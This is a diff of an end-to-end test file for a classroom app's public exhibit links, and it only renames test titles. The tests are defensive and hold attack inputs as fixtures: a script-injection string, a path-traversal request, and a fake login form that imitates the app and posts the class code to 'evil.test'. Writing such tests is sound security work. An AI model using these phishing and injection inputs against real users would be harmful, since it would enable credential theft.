@@ -88,7 +88,7 @@ test.beforeAll(async () => {
 	exhibit = await putProjectOnWall(maker, { files, title: MARKUP.slice(0, 80), description: MARKUP });
 });
 
-test('no link is made while links are off, and none by a classmate, a teacher or of another class', async () => {
+test('a link is made only while links are on, and only by the exhibit’s maker', async () => {
 	expect((await postAction(maker.client, `${wallPath()}/${exhibit}?/makeLink`)).status()).toBe(409);
 	expect(await readExhibitLink()).toBe('');
 	for (const { client } of [maker, classmate])
@@ -108,7 +108,9 @@ test('no link is made while links are off, and none by a classmate, a teacher or
 	expect(await readExhibitLink(), 'ended by a classmate').toBe(link);
 });
 
-test('texts are text, nothing runs unasked, and nothing tells of class and makers', async ({ browser }) => {
+test('an exhibit’s link shows markup as text, runs nothing unasked, and names neither class nor maker', async ({
+	browser
+}) => {
 	const tab = await (await browser.newContext()).newPage();
 	await tab.goto(`/fr/shown/${link}`, { waitUntil: 'networkidle' });
 	await expect(tab.getByRole('heading', { level: 1 })).toContainText('<script>window.hurt=1</script>');
@@ -123,9 +125,7 @@ test('texts are text, nothing runs unasked, and nothing tells of class and maker
 	expect(cover.headers()['content-security-policy']).toContain("default-src 'none'");
 });
 
-test('a program that looks like the app and asks for the class code stands under a sentence, and sends nothing', async ({
-	browser
-}) => {
+test('a program that imitates the app is shown under a warning sentence, and sends nothing', async ({ browser }) => {
 	const page = `<h1>Braise</h1><form action="https://evil.test/"><label>Code de la classe <input name="code"></label>
 		<button>Rejoindre</button></form>`;
 	const program = `document.querySelector('form')!.addEventListener('submit', () => {
@@ -152,7 +152,7 @@ test('a program that looks like the app and asks for the class code stands under
 	expect(new URL(tab.url()).pathname).toMatch(/^\/fr\/shown\//);
 });
 
-test('a link gives the pictures that its copy names, and those of nobody else', async () => {
+test('a link gives only the pictures that its own exhibit names', async () => {
 	const files = { 'main.ts': '', 'cat.png': formatOwnFile(PICTURE) };
 	const otherExhibit = await putProjectOnWall(classmate, { files, title: 'Chat', description: '' });
 	expect((await postAction(classmate.client, `${wallPath()}/${otherExhibit}?/makeLink`)).status()).toBe(200);
@@ -162,7 +162,7 @@ test('a link gives the pictures that its copy names, and those of nobody else', 
 	expect((await visitor.get(`/api/shown/${link}/files/..%2f..%2fcover`)).status()).toBe(404);
 });
 
-test('ended, hidden, archived and turned off answer like a link that never was', async () => {
+test('an ended, hidden, archived or turned-off link answers like a link that never existed', async () => {
 	const answersToUnknownLink = await fetchLinkAnswers('0'.repeat(48));
 	expect(answersToUnknownLink[0]).toMatch(/^404 /);
 	expect(answersToUnknownLink[0]).toContain(DEAD_LINK_TEXT);
